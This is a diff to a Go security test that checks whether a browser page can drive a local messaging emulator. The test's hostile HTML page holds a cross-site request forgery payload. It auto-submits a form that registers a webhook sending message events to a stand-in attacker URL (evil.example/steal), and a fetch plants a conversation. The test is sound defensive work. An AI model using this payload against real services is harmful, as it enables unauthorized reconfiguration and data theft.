@@ -78,8 +78,12 @@ func TestBrowserCannotDriveTheEmulator(t *testing.T) {
 		fmt.Fprintf(w, `<!doctype html><html><body>
 <form id="f" method="POST" action="%s/v1/Configuration/Webhooks">
 <input name="PostWebhookUrl" value="https://evil.example/steal"><input name="Filters" value="onMessageAdded"></form>
-<script>fetch(%q, {method: 'POST', mode: 'no-cors', body: new URLSearchParams('FriendlyName=planted')})
-  .finally(() => { document.title = 'fetched'; document.getElementById('f').submit(); });</script>
+<script>
+// After the load event (so the test's Navigate has returned), a fetch, then the form post.
+window.addEventListener('load', () => setTimeout(() =>
+  fetch(%q, {method: 'POST', mode: 'no-cors', body: new URLSearchParams('FriendlyName=planted')})
+    .finally(() => document.getElementById('f').submit()), 100));
+</script>
 </body></html>`, emu.baseURL, emu.baseURL+"/v1/Conversations")
 	}))
 	defer evil.Close()
